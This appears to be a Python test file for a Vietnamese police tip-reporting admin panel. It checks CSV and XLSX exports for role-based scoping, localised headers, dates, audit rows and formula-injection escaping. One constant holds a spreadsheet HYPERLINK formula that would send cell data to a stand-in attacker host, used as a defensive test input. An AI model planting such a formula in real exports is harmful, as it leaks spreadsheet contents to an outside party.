"""Export of the queue to CSV and XLSX: every route and role, scope across communes and
provinces, Vietnamese headers, dates, formula injection, the audit row."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime, timedelta

import httpx
import openpyxl
import pytest
from openpyxl.utils import get_column_letter
from sqlalchemy import select

from admin.export import text_cell
from handlers import casework as cases
from handlers.deadlines import local_date
from storage.models import AuditLog
from tests.panel.conftest import COMMUNE_A, COMMUNE_B, COMMUNE_C, StoredTip, World, case_store

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
ROUTES = ("/admin/tips/export.csv", "/admin/tips/export.xlsx")


def read_csv(response: httpx.Response) -> list[dict[str, str]]:
    assert response.content.startswith("\ufeff".encode())
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def read_xlsx(response: httpx.Response) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(response.content))


def today() -> str:
    return local_date(datetime.now(UTC)).isoformat()


async def _tips(world: World) -> dict[str, StoredTip]:
    return {
        "a1": await world.tip(COMMUNE_A, category="fraud_phone", address="Số 5 Điện Biên Phủ"),
        "a2": await world.tip(COMMUNE_A, category="drugs", description=FORMULA, address="+84 đầu"),
        "b1": await world.tip(COMMUNE_B, category="gambling"),
        "c1": await world.tip(COMMUNE_C, category="other"),
    }


async def test_csv_of_an_officer_holds_only_their_commune(world: World) -> None:
    made = await _tips(world)
    response = await (await world.client("officer_a")).get("/admin/tips/export.csv")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"] == (
        f'attachment; filename="binhyen-tips-{COMMUNE_A}-{today()}.csv"'
    )
    rows = read_csv(response)
    assert {r["Mã tin báo"] for r in rows} == {made["a1"].code, made["a2"].code}
    by_code = {r["Mã tin báo"]: r for r in rows}
    a1, a2 = by_code[made["a1"].code], by_code[made["a2"].code]
    assert a1["Loại tin báo"] == "Lừa đảo qua điện thoại" and a1["Trạng thái"] == "Mới tiếp nhận"
    assert a1["Xã, phường"] == "Phường Ba Đình" and a1["Mã xã, phường"] == COMMUNE_A
    assert a1["Địa chỉ xảy ra"] == "Số 5 Điện Biên Phủ" and a1["Ẩn danh"] == "Có"
    assert re.fullmatch(r"\d\d/\d\d/\d{4}", a1["Ngày tiếp nhận"])
    assert a1["Ngày tiếp nhận"] == local_date(datetime.now(UTC)).strftime("%d/%m/%Y")
    # Formula injection: the cells a spreadsheet would run start with an apostrophe.
    assert a2["Nội dung tin báo"] == "'" + FORMULA and a2["Địa chỉ xảy ra"] == "'+84 đầu"


async def test_no_route_gives_another_communes_rows(world: World) -> None:
    made = await _tips(world)
    a_codes = {made["a1"].code, made["a2"].code}
    client = await world.client("officer_b")
    for url in (
        "/admin/tips/export.csv",
        "/admin/tips/export.csv?status=all",
        f"/admin/tips/export.csv?commune={COMMUNE_A}",
        "/api/v1/tips/export?format=csv&status=all",
        f"/api/v1/tips/export?format=csv&commune={COMMUNE_A}",
    ):
        response = await client.get(url)
        assert response.status_code == 200, url
        codes = {r["Mã tin báo"] for r in read_csv(response)}
        assert not codes & a_codes, url
        assert codes == ({made["b1"].code} if "commune" not in url else set()), url
    for url in ("/admin/tips/export.xlsx?status=all", "/api/v1/tips/export?format=xlsx"):
        sheet = read_xlsx(await client.get(url)).worksheets[0]
        assert [c.value for c in sheet["A"][1:]] == [made["b1"].code], url


async def test_province_admins_get_their_province(world: World) -> None:
    made = await _tips(world)
    client = await world.client("admin_01")
    whole = await client.get("/admin/tips/export.csv")
    assert f"binhyen-tips-01-{today()}.csv" in whole.headers["content-disposition"]
    codes = {r["Mã tin báo"] for r in read_csv(whole)}
    assert codes == {made["a1"].code, made["a2"].code, made["b1"].code}
    one = await client.get(f"/admin/tips/export.csv?commune={COMMUNE_B}")
    assert f"binhyen-tips-{COMMUNE_B}-{today()}.csv" in one.headers["content-disposition"]
    assert {r["Mã tin báo"] for r in read_csv(one)} == {made["b1"].code}
    south = await (await world.client("admin_79")).get("/admin/tips/export.csv")
    assert {r["Mã tin báo"] for r in read_csv(south)} == {made["c1"].code}


async def test_filters_apply_and_are_audited(world: World) -> None:
    made = await _tips(world)
    client = await world.client("chief_a")
    drugs = await client.get("/admin/tips/export.csv?category=drugs&status=all")
    assert [r["Mã tin báo"] for r in read_csv(drugs)] == [made["a2"].code]
    searched = await client.get("/admin/tips/export.csv", params={"q": "điện biên"})
    assert [r["Mã tin báo"] for r in read_csv(searched)] == [made["a1"].code]
    closed = await client.get("/admin/tips/export.csv?status=closed")
    assert read_csv(closed) == []
    async with world.session() as session:
        query = select(AuditLog).where(AuditLog.action == "tips.export").order_by(AuditLog.id)
        audits = list((await session.execute(query)).scalars())
    assert [(a.actor_username, a.detail) for a in audits] == [
        (world.usernames["chief_a"], "1 rows"),
        (world.usernames["chief_a"], "1 rows"),
        (world.usernames["chief_a"], "0 rows"),
    ]
    assert "category=drugs" in audits[0].reason and "status=all" in audits[0].reason


async def test_times_are_vietnam_time(world: World) -> None:
    tip = await world.tip(COMMUNE_A, received=datetime.now(UTC) - timedelta(days=1))
    moment = datetime.now(UTC).replace(hour=17, minute=30, second=0, microsecond=0)
    if moment > datetime.now(UTC):
        moment -= timedelta(days=1)
    async with world.session() as session:
        await cases.acknowledge(case_store(session), world.users["officer_a"], tip.id, now=moment)
        await session.commit()
    client = await world.client("officer_a")
    (row,) = read_csv(await client.get("/admin/tips/export.csv"))
    local = moment + timedelta(hours=7)  # 17:30 UTC is 00:30 the next day in Vietnam
    assert row["Thời điểm thông báo tiếp nhận"] == local.strftime("%d/%m/%Y 00:30")
    assert row["Trạng thái"] == "Đã gửi thông báo tiếp nhận"
    sheet = read_xlsx(await client.get("/admin/tips/export.xlsx")).worksheets[0]
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("Thời điểm thông báo tiếp nhận") + 1)
    assert cell.value == local.replace(tzinfo=None) and cell.number_format == "DD/MM/YYYY HH:MM"


async def test_xlsx_has_vietnamese_headers_dates_and_its_filters(world: World) -> None:
    made = await _tips(world)
    response = await (await world.client("officer_a")).get(
        "/admin/tips/export.xlsx?status=all&q=", headers={"Accept": "*/*"}
    )
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/vnd.openxmlformats")
    assert f"binhyen-tips-{COMMUNE_A}-{today()}.xlsx" in response.headers["content-disposition"]
    book = read_xlsx(response)
    assert book.sheetnames == ["Tin báo", "Điều kiện xuất"]
    tips_sheet, about = book.worksheets
    header = [c.value for c in tips_sheet[1]]
    assert header[:4] == ["Mã tin báo", "Ngày tiếp nhận", "Loại tin báo", "Trạng thái"]
    assert all(c.font.bold for c in tips_sheet[1])
    assert tips_sheet.freeze_panes == "A2"
    description_column = get_column_letter(header.index("Nội dung tin báo") + 1)
    assert tips_sheet.column_dimensions[description_column].width == 60
    rows = {r[0].value: r for r in tips_sheet.iter_rows(min_row=2)}
    assert set(rows) == {made["a1"].code, made["a2"].code}
    received = rows[made["a1"].code][1]
    assert isinstance(received.value, datetime) and received.number_format == "DD/MM/YYYY"
    assert received.value.date() == local_date(datetime.now(UTC))
    description = rows[made["a2"].code][header.index("Nội dung tin báo")]
    assert description.value == FORMULA and description.data_type == "s"
    details = {r[0].value: r[1].value for r in about.iter_rows()}
    assert details["Người xuất"] == world.usernames["officer_a"]
    assert details["Số tin báo"] == 2 and details["Trạng thái"] == "Mọi trạng thái"
    assert details["Địa bàn"] == f"{COMMUNE_A} Phường Ba Đình"
    assert isinstance(details["Thời điểm xuất (giờ Việt Nam)"], datetime)


async def test_english_panel_exports_english_headers(world: World) -> None:
    await _tips(world)
    client = await world.client("officer_a")
    rows = read_csv(await client.get("/admin/tips/export.csv?lang=en"))
    assert set(rows[0]) >= {"Receipt code", "Received on", "Category", "Status", "Description"}
    assert {r["Category"] for r in rows} == {"Phone scam", "Drugs"}
    book = read_xlsx(await client.get("/api/v1/tips/export?format=xlsx&lang=en"))
    assert book.sheetnames == ["Tips", "Export details"]


@pytest.mark.parametrize("route", ROUTES)
async def test_pages_refuse_leaders_strangers_and_bad_filters(world: World, route: str) -> None:
    leader = await (await world.client("leader_a")).get(route)
    assert leader.status_code == 403
    stranger = await world.anonymous_client().get(route)
    assert stranger.status_code == 303 and stranger.headers["location"] == "/admin/"
    bad = await (await world.client("officer_a")).get(route + "?status=lost")
    assert bad.status_code == 422 and "Bộ lọc không hợp lệ" in bad.text
    async with world.session() as session:
        audits = (await session.execute(select(AuditLog.action))).scalars().all()
    assert "tips.export" not in audits


async def test_api_for_every_role(world: World) -> None:
    made = await _tips(world)
    stranger = await world.anonymous_client().get("/api/v1/tips/export")
    assert stranger.status_code == 401 and stranger.json()["error"]["code"] == "unauthorized"
    leader = await (await world.client("leader_a")).get("/api/v1/tips/export")
    assert leader.status_code == 403 and leader.json()["error"]["code"] == "forbidden"
    expected = {
        "officer_a": {made["a1"].code, made["a2"].code},
        "chief_a": {made["a1"].code, made["a2"].code},
        "officer_b": {made["b1"].code},
        "chief_b": {made["b1"].code},
        "officer_c": {made["c1"].code},
        "admin_01": {made["a1"].code, made["a2"].code, made["b1"].code},
        "admin_79": {made["c1"].code},
    }
    for label, codes in expected.items():
        client = await world.client(label)
        answer = await client.get("/api/v1/tips/export")
        assert answer.status_code == 200, label
        assert {r["Mã tin báo"] for r in read_csv(answer)} == codes, label
    client = await world.client("officer_a")
    wrong = await client.get("/api/v1/tips/export?format=pdf")
    assert wrong.status_code == 422 and wrong.json()["error"]["code"] == "format"
    bad = await client.get("/api/v1/tips/export?urgent=maybe")
    assert bad.status_code == 422 and bad.json()["error"]["code"] == "filter"


def test_text_cells() -> None:
    assert text_cell(date(2026, 1, 9)) == "09/01/2026"
    assert text_cell(datetime(2026, 1, 9, 7, 5)) == "09/01/2026 07:05"
    assert text_cell(None) == "" and text_cell(3) == "3"
    for risky in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert text_cell(risky) == "'" + risky
    assert text_cell("Nguyễn Văn A") == "Nguyễn Văn A" and text_cell("0912") == "0912"
